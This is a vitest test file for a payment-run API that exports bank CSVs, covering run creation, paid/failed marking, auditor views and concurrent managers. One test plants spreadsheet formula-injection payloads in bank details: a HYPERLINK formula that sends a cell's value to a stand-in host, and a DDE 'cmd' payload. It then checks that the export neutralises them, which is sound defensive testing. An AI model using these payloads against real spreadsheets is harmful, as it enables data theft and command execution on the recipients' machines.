import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AuditStoreStatus } from '../../src/contract';
import {
  type ManagedPaymentList,
  PAYMENT_RUN_MESSAGES,
  type PaymentList,
  type PaymentRun,
  type PaymentTimeline,
  paymentReference,
  type StaffAction,
} from '../../src/contract';
import { createUser, type Harness, ORIGIN, sessionFor, startHarness } from './harness';
import { DIALECTS } from './testDb';
import { createAuditStore, createCycleWithAudits, createPendingPayment, daysFromToday } from './world';

/**
 * Payment runs (decision 0025): the pending list, a run of chosen payments (each in one run only),
 * the bank's CSV with whole account numbers (recorded), paid and failed once each, what the auditor
 * then sees, and two managers at once.
 */
describe.each(DIALECTS)('payment runs on %s', (dialect) => {
  let h: Harness;
  let cookie: string;
  let second: string;
  const call = (method: 'GET' | 'POST', path: string, body?: object, as = cookie) =>
    h.app.inject({
      method,
      url: `/api/manager/${path}`,
      headers: { cookie: as, origin: ORIGIN },
      ...(body ? { payload: body } : {}),
    });
  const statusOf = async (id: number) =>
    (await h.db.selectFrom('payments').select('status').where('id', '=', id).executeTakeFirstOrThrow())
      .status;

  /** An auditor with bank details and a PENDING payment of ₹500 + ₹100 for an accepted report. */
  async function pendingPayment(holder = 'Mehta, Rohan "RM"', reportStatus: AuditStoreStatus = 'ACCEPTED') {
    const auditor = await createUser(h.db);
    await h.db
      .insertInto('bank_accounts')
      .values({
        user_id: auditor.id,
        account_holder_name: holder,
        account_number: '001234567890',
        ifsc_code: 'HDFC0000123',
        updated_at: new Date().toISOString(),
      })
      .onConflict((c) =>
        c.column('user_id').doUpdateSet({
          account_holder_name: holder,
          account_number: '001234567890',
          ifsc_code: 'HDFC0000123',
        }),
      )
      .execute();
    const { auditIds } = await createCycleWithAudits(h.db, { audits: 1 });
    const store = await createAuditStore(h.db, auditor.id, auditIds[0] as number, reportStatus);
    return { auditor, id: await createPendingPayment(h.db, auditor.id, store) };
  }

  beforeAll(async () => {
    h = await startHarness(dialect);
    const manager = await createUser(h.db, { role: 'manager' });
    cookie = await sessionFor(h.app, manager.email, manager.password);
    const other = await createUser(h.db, { role: 'manager' });
    second = await sessionFor(h.app, other.email, other.password);
  });
  afterAll(() => h?.close());

  it('runs chosen payments, exports the bank file, and marks each paid or failed once', async () => {
    const paid = await pendingPayment();
    const failed = await pendingPayment('Asha Rao');
    const pending = (await call('GET', 'payment')).json() as ManagedPaymentList;
    expect(pending.payments.find((p) => p.id === paid.id)).toMatchObject({
      status: 'PENDING',
      total: 600,
      payable: true,
      payment_run_id: null,
    });

    // marking needs a run first
    expect((await call('POST', `payment/${paid.id}/paid`, { paid_on: daysFromToday(0) })).json()).toEqual({
      non_field_errors: [PAYMENT_RUN_MESSAGES.notInRun],
    });
    const created = await call('POST', 'payment_run', { payment_ids: [paid.id, failed.id, paid.id] });
    expect(created.statusCode).toBe(200);
    const run = created.json() as PaymentRun;
    expect(run.payments.map((p) => p.id)).toEqual([paid.id, failed.id]);
    // a payment is in one run only
    expect((await call('POST', 'payment_run', { payment_ids: [paid.id] })).json()).toEqual({
      non_field_errors: [PAYMENT_RUN_MESSAGES.notAvailable],
    });

    const csv = await call('GET', `payment_run/${run.id}/csv`);
    expect(csv.headers['content-type']).toContain('text/csv');
    expect(csv.body.trim().split('\n')).toEqual([
      'reference,account_holder_name,account_number,ifsc_code,paypal,amount',
      `${paymentReference(paid.id)},"Mehta, Rohan ""RM""",001234567890,HDFC0000123,,600.00`,
      `${paymentReference(failed.id)},Asha Rao,001234567890,HDFC0000123,,600.00`,
    ]);

    expect((await call('POST', `payment/${paid.id}/paid`, { paid_on: daysFromToday(2) })).json()).toEqual({
      paid_on: [PAYMENT_RUN_MESSAGES.paidInFuture],
    });
    for (const bad of [{}, { paid_on: '2026-02-30' }, { paid_on: 'yesterday' }])
      expect((await call('POST', `payment/${paid.id}/paid`, bad)).statusCode, JSON.stringify(bad)).toBe(400);
    const today = daysFromToday(0);
    expect((await call('POST', `payment/${paid.id}/paid`, { paid_on: today })).json()).toMatchObject({
      status: 'PAID',
      paid_on: today,
    });
    expect((await call('POST', `payment/${paid.id}/failed`, { reason: 'Late.' })).json()).toEqual({
      non_field_errors: [PAYMENT_RUN_MESSAGES.alreadySettled],
    });
    expect((await call('POST', `payment/${failed.id}/failed`, { reason: '   ' })).statusCode).toBe(400);
    const reason = 'The bank says the account is closed.';
    expect((await call('POST', `payment/${failed.id}/failed`, { reason })).json()).toMatchObject({
      status: 'FAILED',
      failure_reason: reason,
    });

    const history = (await call('GET', `payment/${paid.id}/history`)).json() as { actions: StaffAction[] };
    expect(history.actions.map((a) => a.action)).toEqual(['payment.paid', 'payment.export', 'payment.run']);
    expect((await call('GET', 'payment/999999/history')).statusCode).toBe(404);
    expect((await call('GET', 'payment_run/999999')).statusCode).toBe(404);

    // each auditor sees theirs: paid on the day, or failed with the bank's reason
    const asAuditor = async (who: { email: string; password: string }, path: string) =>
      (
        await h.app.inject({
          url: `/api/auditor/${path}`,
          headers: { cookie: await sessionFor(h.app, who.email, who.password) },
        })
      ).json();
    const paidList = (await asAuditor(paid.auditor, 'payment')) as PaymentList;
    expect(paidList.payments[0]).toMatchObject({ status: 'PAID', paid_on: today, failure_reason: null });
    const timeline = (await asAuditor(paid.auditor, `payment/${paid.id}/timeline`)) as PaymentTimeline;
    expect(timeline.steps.at(-1)).toMatchObject({ key: 'PAID', state: 'done', date: today });
    const failedList = (await asAuditor(failed.auditor, 'payment')) as PaymentList;
    expect(failedList.payments[0]).toMatchObject({ status: 'FAILED', failure_reason: reason });
  });

  it('waits for the client’s acceptance: a report still in review is neither pending nor runnable', async () => {
    const accepted = await pendingPayment();
    // rows a seed or an older build made at submission: they wait until their report is accepted
    const inReview = await Promise.all(
      (['SUBMITTED', 'PM_REVIEW', 'COMPLETED', 'REJECTED'] as const).map((status) =>
        pendingPayment('Asha Rao', status),
      ),
    );
    const listed = async () => {
      const pages: ManagedPaymentList[] = [];
      for (let page = 1; ; page++) {
        pages.push((await call('GET', `payment?page=${page}`)).json() as ManagedPaymentList);
        const last = pages.at(-1) as ManagedPaymentList;
        if (page * last.page_size >= last.total_count) break;
      }
      return {
        ids: pages.flatMap((p) => p.payments.map((payment) => payment.id)),
        total: pages[0]?.total_count,
      };
    };
    const pending = await listed();
    expect(pending.ids).toContain(accepted.id);
    for (const waiting of inReview) expect(pending.ids).not.toContain(waiting.id);
    expect(pending.total).toBe(pending.ids.length);
    for (const waiting of inReview) {
      const refused = await call('POST', 'payment_run', { payment_ids: [accepted.id, waiting.id] });
      expect(refused.statusCode).toBe(400);
      expect(refused.json().non_field_errors).toEqual([PAYMENT_RUN_MESSAGES.notAvailable]);
    }
    // nothing of the refused runs was kept: the accepted one is still free to run
    expect((await call('POST', 'payment_run', { payment_ids: [accepted.id] })).statusCode).toBe(200);
  });

  it('neutralises every bank file cell that a spreadsheet would read as a formula', async () => {
    // details saved before the server checked their format, or a holder name (free text)
    const hostile = await pendingPayment('=HYPERLINK("http://x.test/?"&C2,"Pay")');
    await h.db
      .updateTable('bank_accounts')
      .set({ account_number: "+cmd|'/C calc'!A0", ifsc_code: '-2+3', paypal: '@SUM(1+1)' })
      .where('user_id', '=', hostile.auditor.id)
      .execute();
    const tab = await pendingPayment('\t=1+1');
    const run = (
      await call('POST', 'payment_run', { payment_ids: [hostile.id, tab.id] })
    ).json() as PaymentRun;
    const csv = await call('GET', `payment_run/${run.id}/csv`);
    expect(csv.body.trim().split('\n')).toEqual([
      'reference,account_holder_name,account_number,ifsc_code,paypal,amount',
      `${paymentReference(hostile.id)},"'=HYPERLINK(""http://x.test/?""&C2,""Pay"")",'+cmd|'/C calc'!A0,'-2+3,'@SUM(1+1),600.00`,
      `${paymentReference(tab.id)},'\t=1+1,001234567890,HDFC0000123,,600.00`,
    ]);
  });

  it('refuses an empty run, unknown and settled payments, and keeps nothing of a refused run', async () => {
    const { id } = await pendingPayment();
    const runsBefore = await h.db.selectFrom('payment_runs').select('id').execute();
    expect((await call('POST', 'payment_run', { payment_ids: [] })).statusCode).toBe(400);
    expect((await call('POST', 'payment_run', { payment_ids: [id, 999_999] })).json()).toEqual({
      non_field_errors: [PAYMENT_RUN_MESSAGES.notAvailable],
    });
    expect(await h.db.selectFrom('payment_runs').select('id').execute()).toEqual(runsBefore);
    const stillFree = await h.db
      .selectFrom('payments')
      .select('payment_run_id')
      .where('id', '=', id)
      .executeTakeFirstOrThrow();
    expect(stillFree.payment_run_id).toBeNull();
  });

  it('of two managers at once, one runs a payment and one settles it', async () => {
    const { id } = await pendingPayment();
    const runs = await Promise.all([
      call('POST', 'payment_run', { payment_ids: [id] }),
      call('POST', 'payment_run', { payment_ids: [id] }, second),
    ]);
    expect(runs.map((r) => r.statusCode).sort()).toEqual([200, 400]);
    const settles = await Promise.all([
      call('POST', `payment/${id}/paid`, { paid_on: daysFromToday(0) }),
      call('POST', `payment/${id}/failed`, { reason: 'Refused.' }, second),
    ]);
    expect(settles.map((r) => r.statusCode).sort()).toEqual([200, 400]);
    expect(['PAID', 'FAILED']).toContain(await statusOf(id));
    const history = (await call('GET', `payment/${id}/history`)).json() as { actions: StaffAction[] };
    expect(
      history.actions.filter((a) => a.action === 'payment.paid' || a.action === 'payment.failed'),
    ).toHaveLength(1);
  });
});
